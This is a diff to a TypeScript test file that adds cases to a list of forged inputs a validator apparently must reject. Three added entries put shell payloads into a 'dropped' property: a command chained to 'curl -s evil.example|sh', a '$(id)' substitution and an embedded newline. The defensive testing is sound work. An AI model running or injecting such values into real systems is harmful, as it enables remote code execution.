@@ -41,6 +41,9 @@ const forged: readonly (readonly [string, object])[] = [
   ['credentials with a wildcard', { snapshot: { id: 'shop-1', credentials: `${secret}*` } }],
   ['a promise without an end', { keepUntil: '+275760-09-13T00:00:00.000Z' }],
   ['a promise in words', { keepUntil: '1 January 2099' }],
+  ['a dropped property that is a command', { dropped: { 'shop-x--web': ['plain X;curl -s evil.example|sh'] } }],
+  ['a dropped property with a substitution', { dropped: { 'shop-x--web': ['plain $(id)'] } }],
+  ['a dropped property with a second line', { dropped: { 'shop-x--web': ['plain X\nY'] } }],
   ['sleep that is a text', { asleep: 'yes' }],
   ['another stack', { stackId: location.stackId.replace('login', 'other') }],
 ];
